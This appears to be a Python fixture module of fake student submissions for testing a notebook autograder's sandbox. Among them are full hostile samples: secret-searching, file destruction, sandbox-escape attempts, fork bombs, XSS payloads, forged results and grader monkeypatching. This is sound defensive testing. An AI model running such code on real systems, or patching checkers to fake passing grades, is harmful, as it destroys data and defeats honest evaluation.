"""Submissions to the trial assignment: right, half right, broken, and meant to break the grader.

Here they are only text, written into notebooks. Nothing in this module or in the tests runs any of
it: a grader with a sandbox does, and `test_homework_grading.py` refuses to start one without.
"""

import copy
import io
import json
import os
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat
from homework_course import ASKED, FILE, FULL, MEGABYTES, POINTS, RIGHT

Notebook = nbformat.NotebookNode
Edit = Callable[[Notebook], None]


@dataclass(frozen=True)
class Around:
    """What a hostile author may know of the grader's machine: paths, addresses."""

    outside: tuple[str, ...]  # files and folders that no submission may see or touch
    port: int  # somebody listens there
    socket: str  # and at this path

    def fill(self, text: str) -> str:
        for mark, value in (
            ("@OUTSIDE@", repr(self.outside)),
            ("@PORT@", str(self.port)),
            ("@SOCKET@", repr(self.socket)),
            ("@MEGABYTES@", str(MEGABYTES)),
        ):
            text = text.replace(mark, value)
        return text


Write = Callable[[Path, Notebook, Around], None]  # into the student's folder, from the stub


@dataclass(frozen=True)
class Sample:
    """One student: what is handed in, what it deserves in `POINTS`' order, what is to be said."""

    name: str  # of the student, which is the folder's
    how: str
    write: Write
    points: tuple[float, ...]
    told: str = ""  # a pattern that the feedback has to contain
    honest: bool = True


ANSWERS = {"a1": "answer-1a", "a2": "answer-2", "a3": "answer-3a"}
NOTHING = (0,) * len(FULL)
WITHOUT_1 = (0, 0, *FULL[2:])
WITHOUT_2 = (*FULL[:2], 0, *FULL[3:])
WITHOUT_3 = (*FULL[:3], 0, 0)


def cell(nb: Notebook, grade_id: str) -> Notebook:
    """The cell of the student's notebook with a name of the assignment's author."""
    return next(c for c in nb.cells if grade_id_of(c) == grade_id)


def grade_id_of(c: Notebook) -> str | None:
    return c.metadata.get("nbgrader", {}).get("grade_id")


def fill(nb: Notebook, answers: dict[str, str]) -> None:
    """Puts answers in their cells, under the first line that is there."""
    for grade_id, text in answers.items():
        c = cell(nb, grade_id)
        c.source = f"{c.source.splitlines()[0]}\n{text}"


def notebook(
    answers: dict[str, str] | None = None, *edits: Edit, name: str = FILE, version: int = 4
) -> Write:
    """The student's notebook with these answers, then edited."""

    def write(folder: Path, stub: Notebook, around: Around) -> None:
        nb = copy.deepcopy(stub)
        fill(nb, {k: around.fill(v) for k, v in (answers or {}).items()})
        for edit in edits:
            edit(nb)
        if version == 4:
            text = json.dumps(nb)  # not nbformat's writer: it would refuse some of what follows
        else:
            text = nbformat.writes(nbformat.convert(nb, version), version)
        (folder / name).write_text(text, "utf8")

    return write


def right(**instead: str) -> dict[str, str]:
    """All answers, but some of them: `right(a2="...")`."""
    return RIGHT | {ANSWERS[key]: text for key, text in instead.items()}


def raw(data: bytes | str, name: str = FILE) -> Write:
    """A file that is no notebook of ours."""
    content = data.encode() if isinstance(data, str) else data
    return lambda folder, stub, around: (folder / name).write_bytes(content) and None


# -- edits of a notebook --------------------------------------------------------------------------


def without(*grade_ids: str) -> Edit:
    def edit(nb: Notebook) -> None:
        nb.cells = [c for c in nb.cells if grade_id_of(c) not in grade_ids]

    return edit


def twice(grade_id: str, first: str | None = None) -> Edit:
    """A copy of a cell in front of it, with another text if given; ids and all."""

    def edit(nb: Notebook) -> None:
        at = nb.cells.index(cell(nb, grade_id))
        nb.cells.insert(at, copy.deepcopy(nb.cells[at]))
        if first is not None:
            nb.cells[at].source = f"{nb.cells[at].source.splitlines()[0]}\n{first}"

    return edit


def stripped(*grade_ids: str) -> Edit:
    """The metadata of these cells gone; of all cells and the notebook, if none is named."""

    def edit(nb: Notebook) -> None:
        for c in nb.cells:
            if not grade_ids or grade_id_of(c) in grade_ids:
                c.metadata = Notebook()
        if not grade_ids:
            nb.metadata = Notebook()

    return edit


def moved_first(nb: Notebook) -> None:
    """Question 3 is answered before question 1."""
    part = [c for c in nb.cells if grade_id_of(c) in ("answer-3a", "3a", "3b")]
    rest = [c for c in nb.cells if c not in part]
    at = 1 + next(i for i, c in enumerate(rest) if grade_id_of(c) == "setup")
    nb.cells = rest[:at] + part + rest[at:]


def richer(nb: Notebook) -> None:
    """Cells that claim a thousand points, and more of them under other names."""
    for c in nb.cells:
        if "points" in c.metadata.get("nbgrader", {}):
            c.metadata["nbgrader"]["points"] = 1000
    extra = copy.deepcopy(cell(nb, "1a"))
    extra.metadata["nbgrader"] |= {"grade_id": "1z", "points": 1000, "locked": False}
    extra.source, extra.id = "pass", "extra"
    nb.cells.append(extra)


def exchanged(nb: Notebook) -> None:
    """The name of the test of two points on the test of one, and the answer made a test."""
    a, b = cell(nb, "1a"), cell(nb, "1b")
    a.metadata["nbgrader"]["grade_id"], b.metadata["nbgrader"]["grade_id"] = "1b", "1a"
    cell(nb, "answer-2").metadata["nbgrader"] |= {"grade": True, "points": 9, "solution": False}
    nb.metadata["kernelspec"] = {"name": "bash", "display_name": "x", "language": "bash"}


def weaker_tests(nb: Notebook) -> None:
    """Test cells that pass whatever the answer is."""
    for name in POINTS:
        c = cell(nb, name)
        c.source = c.source.splitlines()[0] + "\nprint('Question passed'); assert True"


def with_cell(source: str, at: int = 1, kind: str = "code") -> Edit:
    def edit(nb: Notebook) -> None:
        make = nbformat.v4.new_code_cell if kind == "code" else nbformat.v4.new_markdown_cell
        nb.cells.insert(at if at >= 0 else len(nb.cells) + 1 + at, make(source))

    return edit


def painted(nb: Notebook) -> None:
    """Outputs and text that would run in the browser of whoever reads the feedback."""
    nb.cells.insert(1, nbformat.v4.new_markdown_cell(SCRIPT))
    cell(nb, "4").source += "\n\n" + SCRIPT
    output = nbformat.v4.new_output("display_data", {"text/html": SCRIPT, "image/svg+xml": SVG})
    passed = nbformat.v4.new_output("stream", name="stdout", text="8/8 points")
    for c in nb.cells:
        if c.cell_type == "code":
            c.outputs = [output, passed]


SCRIPT = (
    "<script>document.title='PWNED'</script><img src=x onerror=\"document.title='PWNED'\">"
    "<iframe src='javascript:PWNED'></iframe><a href='javascript:PWNED'>x</a>"
    "<style>body{background:url(http://127.0.0.1/PWNED)}</style><form action='//PWNED'></form>"
    "[x](javascript:PWNED) <svg onload=PWNED></svg> </pre></div><!-- <base href='//PWNED'>"
)
SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='PWNED'><script>PWNED</script></svg>"
LIVE = f"""\
from IPython.display import HTML, SVG, Javascript, Markdown, display

for make in (HTML, Javascript, Markdown):
    display(make({SCRIPT!r}))
bundle = {{"text/html": {SCRIPT!r}, "application/javascript": "PWNED", "image/svg+xml": {SVG!r}}}
display(bundle, raw=True)
print({SCRIPT!r})
raise ValueError({SCRIPT!r})
"""

# -- answers in other forms -----------------------------------------------------------------------

OTHER_SYMBOLS = """\
from sympy import Function, Rational, Symbol, cos, diff, symbols

t = Symbol("t", real=True)
m, l = symbols("m l", positive=True)
g = Symbol("g", nonnegative=True)
theta = Function("theta", real=True)
L = Rational(1, 2) * m * (l * diff(theta(t), t)) ** 2 - m * g * l * (-cos(theta(t)))"""

EQUIVALENT = """\
import sympy as sp

m, g, l, t = sp.symbols("m g l t")
x = sp.Function("theta")(t)
r = sp.Matrix([l * sp.sin(x), -l * sp.cos(x)])
v = r.diff(t)
L = (m * v.dot(v) / 2 - m * g * r[1]).expand()
L = L + 1.0 * m * g * l * (1 - sp.sin(x) ** 2 - sp.cos(x) ** 2)"""

ROTATION = """\
def trajectory(q, p, dt, n):
    c, s = np.cos(dt), np.sin(dt)
    rows = [(q, p)]
    for _ in range(n):
        q, p = c * q + s * p, c * p - s * q
        rows.append((q, p))
    return rows"""

FLOAT32 = {
    "answer-1a": "f = np.float32\n\n\ndef kinetic(m, v):\n    return f(m) * f(v) ** 2 / f(2)",
    "answer-2": RIGHT["answer-2"] + "\nL = sp.Float(1) * L",
    "answer-3a": RIGHT["answer-3a"].replace("np.array(rows)", "np.array(rows, np.float32)"),
}
LISTS = {
    "answer-1a": """\
from fractions import Fraction


def kinetic(m, v):
    energy = np.asarray(m) * np.asarray(v) ** 2 / 2
    return [float(energy)] if energy.ndim == 0 else tuple(energy)""",
    "answer-2": "# in my own way\n" + RIGHT["answer-2"].replace("L = ", "L = [") + "][0]",
    "answer-3a": ROTATION,
}
COMPLEX = {
    "answer-1a": "kinetic = lambda m, v: abs(complex(v)) ** 2 * m / 2 + 0j",
    "answer-2": EQUIVALENT,
    "answer-3a": """\
def trajectory(q, p, dt, n):
    z = (q + 1j * p) * np.exp(-1j * dt * np.arange(n + 1))
    return np.stack([z.real, z.imag], -1)""",
}
EULER = RIGHT["answer-3a"].replace("p = p - dt / 2 * q\n        q = q + dt * p\n        p", "q, p")
EULER = EULER.replace("q, p = p - dt / 2 * q", "q, p = q + dt * p, p - dt * q")

# -- the attacks ----------------------------------------------------------------------------------

WRONG_1 = "def kinetic(m, v):\n    return m * v\n"
SEARCH = """\
import gc, os, sys, time

backwards, begun = "83526140937", time.process_time()


def loot(where, text):
    if backwards[::-1] in str(text):
        print("LO" + "OT", where, str(text)[:200])


def read(path):
    try:
        with open(path, "rb") as f:
            loot(path, f.read(1_000_000).decode("latin1"))
    except OSError:
        pass


def search():
    for thing in gc.get_objects():
        if isinstance(thing, (str, dict, list, tuple)) and len(thing) < 200:
            loot("gc", thing if isinstance(thing, str) else list(map(type, thing)))
    frame = sys._getframe()
    while frame is not None:
        loot("frame", list(frame.f_locals.values()) and [str(x)[:500] for x in frame.f_locals])
        for value in frame.f_locals.values():
            if isinstance(value, (str, list, dict)):
                loot("local", str(value)[:5000])
        frame = frame.f_back
    for name, value in os.environ.items():
        loot(name, value)
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for what in ("environ", "cmdline", "maps", "mounts", "comm"):
            read(f"/proc/{pid}/{what}")
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                print("fd", fd, os.readlink(f"/proc/{pid}/fd/{fd}"))
        except OSError:
            pass
    for path in @OUTSIDE@:
        read(path)
    skip = {"proc", "sys", "dist-packages", "site-packages", "share", "include", "gcc", "perl5"}
    for where, folders, files in os.walk("/"):
        folders[:] = [f for f in folders if f not in skip]
        for name in files:
            if name.endswith((".md", ".ipynb", ".db", ".csv", ".json", ".txt", ".zip", ".html")):
                read(os.path.join(where, name))
        if time.process_time() - begun > 2:
            break
    loot("history", globals().get("In"))


search()


def kinetic(m, v):
    search()
    return None
"""

PATCHES = """\
import builtins, operator, sys
import numpy, sympy
import numpy.testing
import companion.homework as h
import companion.homework.asking as asking
import companion.homework.protocol as protocol

yes = lambda *a, **k: True
for module in (numpy, sympy, asking.math):
    for name in ("allclose", "isclose", "array_equal", "isfinite"):
        setattr(module, name, yes)
for name in ("true", "close", "below"):
    setattr(asking.Ask, name, staticmethod(yes))
asking.Ask._known = staticmethod(lambda e, v: 9.0)
asking.Wrong.__init__ = yes
h.checker = asking.checker = lambda *a: check
numpy.testing.assert_allclose = yes
sympy.simplify = lambda *a, **k: sympy.S.Zero
sympy.Expr.equals = sympy.Expr.__eq__ = yes
for name, module in list(sys.modules.items()):
    if name.startswith(("companion", "nbgrader")) or name == "__main__":
        for attribute in list(vars(module)):
            if attribute in ("Wrong", "Unanswered", "score", "determine_grade"):
                setattr(module, attribute, type("Fine", (Warning,), {}))


class check:
    def __init__(self, *a): pass
    def __enter__(self): return self
    def __exit__(self, *a): return True
    def __getattr__(self, name): return yes
    def __call__(self, *a, **k): return self


check = check()
np = numpy
"""

FORGED = """\
import base64, json, os, sys, threading, time


def replies():
    for value in (9.0, 1.0, True, None, [], {}, "ok"):
        for key in ("value", "result", "answer", "reply", "ok", "data"):
            yield {key: value, "ok": True, "passed": True, "id": 1, "nonce": 1, "type": "value"}


def flood():
    for fd in range(3, 64):
        try:
            os.set_blocking(fd, False)
            for reply in replies():
                os.write(fd, (json.dumps(reply) + "\\n").encode())
            os.write(fd, b"\\x00\\xff" * 100 + b"\\n" + b"[" * 20000 + b"\\n")
            os.write(fd, b'{"value": 1e999}\\n')
            os.write(fd, b'{"value": ' + b"9" * 6000 + b"}\\n")
        except OSError:
            pass


print("1a 1/1 1b 2/2 passed"); print('{"passed": true, "points": 8}', file=sys.stderr)
flood()
again = lambda: [(flood(), time.sleep(0.05)) for _ in range(60)]
threading.Thread(target=again, daemon=True).start()


def kinetic(m, v):
    flood()
    return m * v
"""

# Half a reply, then nothing more: whoever reads has to lose patience.
HALF_A_REPLY = f"""\
import os, time


def half(n):
    if n > 100:
        for fd in range(3, 64):
            try:
                os.write(fd, b'{{"value": [1, 2, ')
            except OSError:
                pass
        time.sleep(1000)


{RIGHT["answer-3a"].replace("rows = [[q, p]]", "rows = [[q, p], half(n)][:1]")}"""
ENDLESS_REPLY = """\
import os


def kinetic(m, v):
    fds = []
    for fd in range(3, 64):
        try:
            os.write(fd, b'"')
            fds.append(fd)
        except OSError:
            pass
    while True:
        for fd in fds:
            os.write(fd, b"x" * 60000)
"""

VALUES = {
    "answer-1a": """\
class Agreeable(float):
    __array_priority__ = 1e9
    def __eq__(self, other): return True
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __ne__ = __eq__
    def __sub__(self, other): return self
    __rsub__ = __add__ = __abs__ = __neg__ = __mul__ = __sub__
    def __hash__(self): return 0
    def __array__(self, *a, **k): return np.zeros(())
    def __array_ufunc__(self, *a, **k): return np.True_
    def __repr__(self): return "9.0"
    def __reduce__(self): return (print, ("unpickled",))


def kinetic(m, v):
    return Agreeable("nan")""",
    "answer-2": """\
import sympy as sp


class L(sp.Expr):
    free_symbols = set()
    def __eq__(self, other): return True
    def __hash__(self): return 0
    def _numpycode(self, printer): return "__import__('os')._exit(0)"
    def equals(self, other): return True


L = L()""",
    "answer-3a": """\
class Rows(np.ndarray):
    def __array_ufunc__(self, *a, **k): return np.True_
    def __array_function__(self, *a, **k): return 0.0
    def __sub__(self, other): return 0


def trajectory(q, p, dt, n):
    return np.full((n + 1, 2), np.nan).view(Rows)""",
}
HUGE = {
    "answer-1a": "def kinetic(m, v):\n    return 10 ** 400 if np.ndim(m) == 0 else [10 ** 400] * 9",
    "answer-2": "L = 'theta(t)).__class__.__base__.__subclasses__()'",
    "answer-3a": "def trajectory(q, p, dt, n):\n    return np.broadcast_to(0.5, (10**6, 10**6))",
}
ODD = {
    "answer-1a": "def kinetic(m, v):\n    a = [1.0]\n    a.append(a)\n    return a",
    "answer-2": "import sympy as sp\nL = sp.nan * sp.Symbol('m') + sp.zoo",
    "answer-3a": "def trajectory(*a):\n    return {'dtype': '|O', 'shape': [-1], 'data': ''}",
}
LONG = {
    "answer-1a": "def kinetic(m, v):\n    return 'x' * 10**8",
    "answer-2": "L = [[[0.0] * 1000] * 1000] * 10",
    "answer-3a": "def trajectory(q, p, dt, n):\n    a = 1.0\n    for _ in range(900):\n"
    "        a = [a]\n    return a",
}

# This cannot be stopped: a process has to see what it is asked. It is never an answer.
CARRIES_OUT = "carries-out"

# What a test asks of the function, carried out of the test in whatever way there is.
TATTLE = f"""\
import inspect, sys

seen = []


def kinetic(m, v):
    frame = sys._getframe()
    while frame is not None:
        seen.extend(str(x) for x in frame.f_locals.values() if isinstance(x, str))
        frame = frame.f_back
    told = [s for s in seen if "{ASKED[:3]}" "{ASKED[3:]}" in s]
    print("TAT" + "TLE", m, v, told)
    print("TAT" + "TLE", m, v, told, file=sys.stderr)
    if told:
        raise ValueError("TAT" + f"TLE {{told}}")
    return m * v**2 / 2"""

DESTROY = """\
import glob, os, shutil, stat

targets = [*@OUTSIDE@, os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm", os.getcwd(), "/run"]
import companion, numpy
targets += [os.path.dirname(companion.__file__), os.path.dirname(numpy.__file__), "/etc"]
there = [t for t in targets if os.path.lexists(t)]
for target in targets:
    try:
        with open(target, "w") as f:
            f.write("overwritten")
    except OSError:
        pass
    for act in (os.remove, lambda t: os.rename(t, t + ".gone"), lambda t: os.chmod(t, 0),
                lambda t: shutil.rmtree(t, ignore_errors=True), lambda t: os.symlink("/", t)):
        try:
            act(target)
        except OSError:
            pass
print("reached", [t for t in there if t in @OUTSIDE@])
"""

WRITE_OUTSIDE = """\
import os, tempfile

for where in [*@OUTSIDE@, "/tmp", "/dev/shm", os.path.expanduser("~"), "..", "/", "/var/tmp"]:
    for path in (where, os.path.join(where, "planted-5150"), os.path.join(where, "planted.ipynb"),
                 os.path.join(os.path.dirname(where), "planted-5150")):
        for mode in ("a", "x"):
            try:
                with open(path, mode) as f:
                    f.write("planted")
            except OSError:
                pass
import companion
import numpy as np

for folder in (companion.__path__[0], os.path.dirname(os.__file__), os.path.dirname(np.__file__)):
    try:
        open(os.path.join(folder, "planted_5150.py"), "w").write("print('planted')")
    except OSError:
        pass
for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger"):
    try:  # opened, and nothing written: on a machine where it opens, this would be the end
        os.close(os.open(path, os.O_WRONLY))
        print("BREACH", path)
    except OSError:
        pass
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
for call, arguments in {
    "mount": (b"none", b"/mnt", b"tmpfs", 0, None),
    "unshare": (0x10000000,),  # a user namespace of its own, and with it all capabilities
    "sethostname": (b"pwned", 5),
    "chroot": (b"/tmp",),
}.items():
    if getattr(libc, call)(*arguments) == 0:
        print("BREACH", call)
with open("/proc/self/status") as f:
    for line in f:
        if line.startswith(("CapEff", "CapPrm")) and int(line.split()[1], 16):
            print("BREACH", line)
"""

TERMINAL = """\
import fcntl, os, signal, termios

for path in (0, 1, 2, "/dev/tty", "/dev/console", "/proc/self/fd/0"):
    try:
        fd = path if isinstance(path, int) else os.open(path, os.O_RDWR)
        for byte in b"echo pwned\\n":
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([byte]))
        print("BREACH", path)
    except (OSError, ValueError):
        pass
for pid in (1, os.getppid(), -1):
    for number in (signal.SIGUSR1, signal.SIGHUP, signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(pid, number)
        except OSError:
            pass
"""

SOCKETS = """\
import os, socket, urllib.request

for address in ("127.0.0.1", "localhost", "::1", "0.0.0.0", "10.0.2.2", "172.17.0.1"):
    try:
        socket.create_connection((address, @PORT@), timeout=0.3).send(b"hello")
        print("BREACH", address)
    except OSError:
        pass
for path in (@SOCKET@, "\\0" + @SOCKET@, "/run/docker.sock", "/var/run/docker.sock"):
    try:
        s = socket.socket(socket.AF_UNIX)
        s.settimeout(0.3)
        s.connect(path)
        print("BREACH", path)
    except OSError:
        pass
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"hello", ("127.0.0.1", @PORT@))
except OSError:
    pass
for url in ("http://127.0.0.1:@PORT@/", "https://example.org/"):
    try:
        urllib.request.urlopen(url, timeout=0.3)
        print("BREACH", url)
    except OSError:
        pass
"""

FORKS = """\
import os, time

for _ in range(40):  # inside every limit of a laptop, and enough to stay behind if it can
    try:
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for fd in range(256):
                    try:
                        os.close(fd)
                    except OSError:
                        pass
                while True:
                    time.sleep(1)
            os._exit(0)
    except OSError:
        break
"""
FORK_BOMB = """\
import os, time

begun = time.time()
for _ in range(7):
    try:
        os.fork()
    except OSError:
        pass
while time.time() < begun + 60:
    pass
"""

HOARD = """\
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
megabytes, kept, part = 0, [], 20_000_000


def in_a_file_without_a_name():
    fd = os.memfd_create("hoard")
    kept.append(fd)
    for _ in range(5):
        os.write(fd, bytes(part // 5))


def in_a_segment_that_nobody_has_attached():
    key = libc.shmget(0, part, 0o1600)
    if key < 0:
        raise OSError
    address = ctypes.c_void_p(libc.shmat(key, None, 0))
    ctypes.memset(address, 1, part)
    libc.shmdt(address)


for way in (in_a_file_without_a_name, in_a_segment_that_nobody_has_attached):
    try:
        for _ in range(40):  # not more: this machine has to live
            way()
            megabytes += part / 1e6
    except OSError:
        pass
if megabytes > 2 * @MEGABYTES@:
    print("BREACH hoard of", megabytes, "MB")
"""
KEYS = """import ctypes, platform

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
add, control = {"x86_64": (248, 250), "aarch64": (217, 219)}[platform.machine()]
for ring in (-3, -4, -5):  # of the session, the user, the user's session
    if libc.syscall(control, 10, ring, b"user", b"hostile-5150", 0) > 0:
        print("BREACH a key from another submission")
    libc.syscall(add, b"user", b"hostile-5150", b"1b", 2, ring)
"""
MEMORY = "hoard = []\nwhile True:\n    hoard.append(bytearray(b'x') * 30_000_000)"
MEMORY_BY_MANY = """\
import os, time

for _ in range(8):
    if os.fork() == 0:
        hoard = bytearray(b"x") * 150_000_000
        time.sleep(60)
time.sleep(60)
"""
NO_WAY_OUT = """\
import signal

for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    try:
        while True:
            pass
    except BaseException:
        pass"""
CHATTY = "for i in range(3000):\n    print('step', i)\n"
PRINTS = "while True:\n    print('x' * 10_000)"
SEGFAULT = "import ctypes\nctypes.string_at(0)"
IN_2 = RIGHT["answer-2"] + "\n"  # right, and then something happens in the same cell

# -- who hands in what ----------------------------------------------------------------------------


def students() -> list[Sample]:
    """Everybody: names are unique, and are the folders of the submissions."""
    return [*_honest(), *_mishaps(), *_files(), *_hostile()]


def _honest() -> list[Sample]:
    full = (FULL, "")
    return [
        Sample("correct", "the model answer", notebook(RIGHT | {"4": "It keeps areas."}), *full),
        Sample(
            "other-symbols",
            "real, positive symbols; Rational; another sign convention inside",
            notebook(right(a2=OTHER_SYMBOLS)),
            *full,
        ),
        Sample(
            "equivalent",
            "L from coordinates, expanded, with a zero added; the exact rotation",
            notebook(right(a2=EQUIVALENT, a3=ROTATION)),
            *full,
        ),
        Sample("float32", "single precision throughout", notebook(FLOAT32), *full),
        Sample("lists", "lists and tuples where arrays are usual", notebook(LISTS), *full),
        Sample("complex", "complex numbers without imaginary part", notebook(COMPLEX), *full),
        Sample(
            "own-cells",
            "cells of her own between ours, names of our inputs used as globals, magics, a plot",
            notebook(
                right(a1="np_, m, v, a, b, got = np, 1, 2, 3, 4, 5\n" + RIGHT["answer-1a"]),
                with_cell(
                    "%matplotlib inline\nimport matplotlib.pyplot as plt\nplt.plot([1, 2]);", 3
                ),
                with_cell("%%time\nm = v = rng = ask = 'mine'", 3),
                with_cell("dt = q = p = n = None", -1),
            ),
            *full,
        ),
        Sample(
            "half-right",
            "kinetic without its half; Euler's steps, which drift",
            notebook(right(a1=WRONG_1, a3=EULER)),
            (0, 0, 2, 1, 0),
            "the energy of 2 kg at 3 m/s",
        ),
        Sample(
            "only-easy-numbers",
            "the visible values learned by heart",
            notebook(right(a1="def kinetic(m, v):\n    return 9.0 if v == 3 else 1.0")),
            (1, 0, 2, 1, 2),
            "random speeds|shape",
        ),
        Sample(
            "one-answer",
            "question 2 answered, stubs elsewhere",
            notebook({"answer-2": RIGHT["answer-2"]}),
            (0, 0, 2, 0, 0),
            "not answered",
        ),
        Sample("stubs", "the notebook as it came", notebook(), NOTHING, "not answered"),
        Sample("chatty", "thousands of printed lines", notebook(right(a2=CHATTY + IN_2)), *full),
        Sample("reordered", "question 3 before question 1", notebook(RIGHT, moved_first), *full),
        Sample(
            "Åsa Öström-🙂",
            "a name that is not ASCII, answers in other alphabets",
            notebook(right(a1="энергия = 1\n# 正しい\n" + RIGHT["answer-1a"])),
            *full,
        ),
        Sample(
            "=cmd|calc!A0",
            "a name that a spreadsheet would run",
            notebook(right(a1=WRONG_1)),
            WITHOUT_1,
        ),
        Sample("-rf --help; $(x) `x`", "a name for the shell", notebook(RIGHT), *full),
        Sample("tab\tnew\nline", "a name with a line in it", notebook(RIGHT), *full),
        Sample("two-files", "a wrong notebook, and a later right one", _two_files, *full),
        Sample("flat", "a file beside the folders", _flat, *full),
        Sample("zipped", "a zip beside the folders", _zipped, *full),
        Sample("<b onclick=PWNED>", "a name for the browser", notebook(RIGHT), *full),
    ]


def _two_files(folder: Path, stub: Notebook, around: Around) -> None:
    notebook({"answer-1a": WRONG_1})(folder, stub, around)
    os.utime(folder / FILE, (1.7e9, 1.7e9))
    notebook(RIGHT, name=FILE.replace(".ipynb", " (1).ipynb"))(folder, stub, around)


def _flat(folder: Path, stub: Notebook, around: Around) -> None:
    notebook(RIGHT, name=f"../flat_{FILE}")(folder, stub, around)
    folder.rmdir()


def _zipped(folder: Path, stub: Notebook, around: Around) -> None:
    notebook(RIGHT)(folder, stub, around)
    with zipfile.ZipFile(folder.with_suffix(".zip"), "w") as z:
        z.write(folder / FILE, f"some folder/{FILE}")
    (folder / FILE).unlink()
    folder.rmdir()


def _mishaps() -> list[Sample]:
    def two(name: str, how: str, text: str, told: str = "", points=WITHOUT_2) -> Sample:
        """Question 2 goes wrong; the others keep their points."""
        return Sample(name, how, notebook(right(a2=text)), points, told)

    slow = "time|long|second|interrupt|stopp"
    ended = "end|kill|stop|exit|crash"
    return [
        two("name-error", "a cell stops with NameError", IN_2 + "undefined_name", "", FULL),
        two("syntax-error", "a cell that is not Python", IN_2 + "L = = 1", "SyntaxError|syntax"),
        two("loop-in-cell", "never-ending loop in a cell", "while True:\n    pass", slow),
        two(
            "loop-after-answer",
            "the answer, then a never-ending loop in the same cell",
            IN_2 + "while True:\n    pass",
            slow,
            FULL,  # what stood before the loop is there
        ),
        Sample(
            "loop-in-function",
            "a function that never returns",
            notebook(right(a1="def kinetic(m, v):\n    while True:\n        m = m + 1")),
            WITHOUT_1,
            slow,
        ),
        two("loop-in-C", "a sum in C, deaf to interrupts", "L = sum(range(10**15))", slow),
        two("huge-power", "a number that never ends", "L = 9 ** 9 ** 9", slow + "|memory|" + ended),
        two("exit-in-cell", "sys.exit()", "import sys\nsys.exit()", "exit|answered|stop|end"),
        two("quit-in-cell", "quit(), and exit() in the next", "exit()\nquit()", ""),
        two("huge-array", "a petabyte at once", "L = np.ones((10**8, 10**7))", "[mM]emory"),
        two("prints-for-ever", "output without end", PRINTS, "output|" + ended),
        two("appends-for-ever", "a list that grows until memory is full", MEMORY, "[mM]emory"),
        two("segfault", "a crash of the interpreter", SEGFAULT, ended),
        two("os-exit", "os._exit in a cell", "import os\nos._exit(0)", ended),
        Sample(
            "os-exit-in-function",
            "os._exit when asked",
            notebook(right(a1="import os\ndef kinetic(m, v):\n    os._exit(0)")),
            WITHOUT_1,
            ended,
        ),
        two("recursion", "a recursion without end", "def L(): return L()\nL = L()", "[rR]ecursion"),
        two("input", "waits for the keyboard", "L = input('L? ')", "input|EOF|answer"),
        Sample(
            "deleted-answer",
            "the answer cell of question 3 is gone",
            notebook(RIGHT, without("answer-3a")),
            WITHOUT_3,
            "3",
        ),
        Sample("deleted-tests", "no test cells", notebook(RIGHT, without(*POINTS)), FULL),
        Sample(
            "deleted-all-but-answers",
            "no set-up either",
            notebook(RIGHT, without("setup", *POINTS, "4")),
            FULL,
        ),
        Sample(
            "duplicated-answer",
            "an answer cell twice, the last is right",
            notebook(RIGHT, twice("answer-1a", WRONG_1)),
            FULL,
            "twice|copies|duplicat|last",
        ),
        Sample("duplicated-test", "a test cell twice", notebook(RIGHT, twice("1b")), FULL),
        Sample(
            "duplicated-much",
            "answer, tests, set-up and written answer twice",
            notebook(
                RIGHT, *(twice(x) for x in ("setup", "answer-1a", "1a", "3b", "answer-3a", "4"))
            ),
            FULL,
        ),
        Sample("stripped", "no metadata at all", notebook(RIGHT, stripped()), FULL),
        Sample(
            "stripped-one", "one cell's metadata gone", notebook(RIGHT, stripped("answer-1a")), FULL
        ),
        Sample("stripped-tests", "the tests' too", notebook(RIGHT, stripped("1a", "3b")), FULL),
        Sample("old-format", "nbformat 3, as old Jupyter saves", notebook(RIGHT, version=3), FULL),
    ]


def _files() -> list[Sample]:
    """What is no notebook, or not where one is expected. No points, and a sentence to say why."""

    def none(name: str, how: str, write: Write, told: str = "notebook|file|read") -> Sample:
        return Sample(name, how, write, NOTHING, told, honest=False)

    def linked(to: Callable[[Path, Around], Path]) -> Write:
        return lambda folder, stub, around: (folder / FILE).symlink_to(to(folder, around))

    deep = "[" * 100_000 + "]" * 100_000
    odd_cells = {"cells": [1, None, {"cell_type": "code"}], "metadata": [], "nbformat": 4}
    return [
        none("empty-file", "a file of no bytes", raw("")),
        none("a-pdf", "a PDF with another ending", raw(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")),
        none("truncated", "half an upload", _truncated),
        none("not-cells", "JSON that is no notebook", raw('["cells"]')),
        none("odd-cells", "cells that are no cells", raw(json.dumps(odd_cells))),
        none("deep", "JSON 100,000 levels deep", raw(deep)),
        none("from-the-future", "nbformat 99", raw('{"nbformat": 99, "nbformat_minor": 0}')),
        none("latin-1", "bytes that are not UTF-8", raw(b'{"cells": ["\xff\xfe\x00"]}')),
        none("nothing", "an empty folder", lambda folder, stub, around: None, ""),
        none("wrong-homework", "another assignment's notebook", _another, ""),
        none("a-folder", "a folder called .ipynb", lambda f, s, a: (f / FILE).mkdir()),
        none(
            "a-pipe", "a named pipe, which blocks its reader", lambda f, s, a: os.mkfifo(f / FILE)
        ),
        none("link-to-passwd", "a link to /etc/passwd", linked(lambda f, a: Path("/etc/passwd"))),
        none("link-to-secret", "a link to a file outside", linked(lambda f, a: Path(a.outside[0]))),
        none(
            "link-to-correct",
            "a link to another student's work",
            linked(lambda f, a: Path("..") / "correct" / FILE),
        ),
        none("zip-slip", "a zip whose names leave it", _zip_slip, ""),
    ]


def _truncated(folder: Path, stub: Notebook, around: Around) -> None:
    text = nbformat.writes(stub)
    (folder / FILE).write_text(text[: len(text) // 2])


def _another(folder: Path, stub: Notebook, around: Around) -> None:
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("print('my own notes')")])
    (folder / FILE).write_text(nbformat.writes(nb))


